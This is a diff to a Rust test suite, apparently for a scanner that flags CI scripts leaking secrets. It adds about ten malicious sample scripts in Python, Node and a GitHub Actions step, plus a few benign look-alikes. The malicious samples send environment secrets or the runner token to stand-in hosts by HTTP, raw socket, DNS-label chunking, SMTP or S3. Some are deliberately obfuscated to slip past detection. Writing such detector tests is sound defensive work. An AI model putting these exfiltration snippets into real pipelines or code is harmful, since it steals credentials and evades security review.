@@ -991,6 +991,116 @@ node x.js"##,
         place: "collector.example",
         verdict: Verdict::Malicious,
     },
+    Way {
+        name: "py an address out of numbers",
+        shell: "python",
+        script: r##"import os,socket
+s=socket.create_connection((".".join(map(str,(192,0,2,7))),8443),4)
+s.sendall((os.environ["A"]+os.environ["B"]).encode())"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py an address out of a comprehension",
+        shell: "python",
+        script: r##"import os,requests
+h=".".join(str(n) for n in [192,0,2,7])
+requests.post("https://"+h+"/in",data=os.environ["A"]+os.environ["B"])"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js an address out of numbers",
+        shell: "node {0}",
+        script: r##"const h=[192,0,2,7].map(String).join('.');
+fetch(`https://${h}/in`,{method:'POST',body:process.env.A+process.env.B})"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py names below a zone, piece by piece",
+        shell: "python",
+        script: r##"import os,socket
+def ask(label):
+  socket.gethostbyname(label + ".z.collector.example")
+seed=(os.environ["A"]+os.environ["B"]).encode().hex()
+for i in range(0, len(seed), 60):
+  ask(f"{i // 60}.{seed[i:i + 60]}")"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "z.collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py mail with an attachment",
+        shell: "python",
+        script: r##"import os,smtplib
+from email.message import EmailMessage
+m=EmailMessage()
+m["To"]="x@collector.example"
+m.set_content("see https://docs.widgets.example/")
+m.add_attachment("\n".join(os.environ[n] for n in ("A","B")).encode(),maintype="text",subtype="plain")
+with smtplib.SMTP("mx.collector.example",25) as s:
+  s.send_message(m)"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "mx.collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js mail",
+        shell: "node {0}",
+        script: r##"const t=require('nodemailer').createTransport({host:'mx.collector.example',port:25});
+t.sendMail({to:'x@collector.example',text:process.env.A+process.env.B})"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "mx.collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js a token of the runner's under a computed name",
+        shell: "bash",
+        script: r##"true"##,
+        later: "      - uses: actions/github-script@v7\n        with:\n          script: |\n            for (const k of ['RUNTIME_TOKEN']) core.exportVariable('X_' + k.slice(0, 3), process.env['ACTIONS_' + k])\n      - run: curl -d \"$X_RUN\" https://collector.example/in\n",
+        secrets: &["ACTIONS_RUNTIME_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js a connection written to in its own callback",
+        shell: "node {0}",
+        script: r##"const s=require('net').connect(4444,[192,0,2,7].join('.'),()=>{ s.write(process.env.A+process.env.B); s.end() })"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "js a client by its import",
+        shell: "node {0}",
+        script: r##"import { request } from 'undici';
+await request('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py a bucket by a key of the file's own",
+        shell: "python",
+        script: r##"import os,boto3
+boto3.client("s3",aws_access_key_id="AKIAPLACEHOLDER00000",aws_secret_access_key="x").put_object(Bucket="drop-of-x",Key="o",Body=os.environ["A"]+os.environ["B"])"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "drop-of-x.s3.amazonaws.com",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
@@ -1036,6 +1146,26 @@ print('ready')"##,
         r##"node -e 'require("fs").writeFileSync(".npmrc","//registry.npmjs.org/:_authToken="+process.env.B)'"##,
     ),
     ("ok node check", "bash", r##"node -e 'if(!process.env.A) process.exit(1)'"##),
+    (
+        "py settings with a name like a host",
+        "python",
+        r##"import os
+with open("settings.py", "w") as f:
+  f.write("KEY=" + os.environ["A"])"##,
+    ),
+    (
+        "py numbers",
+        "python",
+        r##"import os,requests
+for page in range(0, 10, 2):
+  requests.get(f"https://api.widgets.example/{page // 2}.{page - 1}")"##,
+    ),
+    (
+        "js own mail",
+        "node {0}",
+        r##"const t=require('nodemailer').createTransport({host:'smtp.widgets.example',auth:{user:'ci',pass:process.env.SMTP}});
+t.sendMail({to:'team@widgets.example',text:'released'})"##,
+    ),
 ];
 
 #[test]
